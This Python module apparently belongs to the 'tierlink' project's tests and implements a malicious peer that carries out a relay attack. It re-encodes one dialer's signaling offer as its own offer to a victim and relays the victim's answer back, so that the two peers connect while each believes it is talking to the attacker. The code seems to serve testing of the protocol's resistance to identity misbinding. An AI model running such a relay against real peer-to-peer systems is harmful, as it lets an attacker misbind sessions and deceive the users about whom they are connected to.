"""M, a malicious peer that relays one dial's signaling into another (the relay attack).

A dials M. M opens A's offer with its own identity, re-encodes the very same session
description (A's ICE credentials, candidates, certificate hash and QUIC flight) as its own
offer to B, opens B's answer with that offer's secret and re-seals it as its answer to A.
A and B then run ICE and the QUIC handshake with each other, each believing it talks to M.
Only the wire functions are used, so the attack follows the offer and answer formats.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator

from tierlink.dht import DhtClient
from tierlink.identity import Identity
from tierlink.wire.dhtkeys import ice_candidates_key, offers_key
from tierlink.wire.records import PeerRecord, now_ms
from tierlink.wire.signaling import (
    decode_answer,
    decode_offer,
    encode_answer,
    encode_offer,
    new_session_id,
)


class RelayAttacker:
    """M: publishes its record, relays every offer to it on to ``victim`` and the victim's
    answer back to the dialer."""

    def __init__(
        self, dht: DhtClient, identity: Identity, victim: str, victim_kem_public_key: bytes
    ) -> None:
        self.dht = dht
        self.identity = identity
        self.victim = victim
        self.victim_kem_public_key = victim_kem_public_key
        self.relayed = 0
        """Answers relayed back to a dialer (counted as their put starts)."""

    @property
    def fingerprint(self) -> str:
        return self.identity.fingerprint

    async def publish(self) -> None:
        """Put M's signed record, so that others can dial M by fingerprint."""
        record = PeerRecord.create(self.identity, now_ms(), 600.0)
        await self.dht.put(ice_candidates_key(self.fingerprint), record.encode(self.identity))

    async def run(self) -> None:
        """Relay offers until cancelled."""
        listener = self.dht.listen(offers_key(self.fingerprint))
        try:
            async for value in listener:
                await self.relay(value)
        finally:
            await listener.aclose()

    async def relay(self, value: bytes) -> None:
        """A's offer to M becomes M's offer to B; B's answer becomes M's answer to A."""
        offer = decode_offer(value, self.identity)
        session = new_session_id()
        forwarded, secret = encode_offer(
            self.identity, self.victim, self.victim_kem_public_key, session, offer.params
        )
        listener = self.dht.listen(secret.answer_key())
        try:
            await self.dht.put(offers_key(self.victim), forwarded)
            async for sealed in listener:
                params = decode_answer(sealed, secret)
                break
            else:
                return
        finally:
            await listener.aclose()
        self.relayed += 1
        await self.dht.put(offer.secret.answer_key(), encode_answer(offer.secret, params))


@contextlib.asynccontextmanager
async def relaying(attacker: RelayAttacker) -> AsyncIterator[RelayAttacker]:
    """Run ``attacker`` (published) for the duration of the block."""
    await attacker.publish()
    task = asyncio.create_task(attacker.run())
    try:
        yield attacker
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task
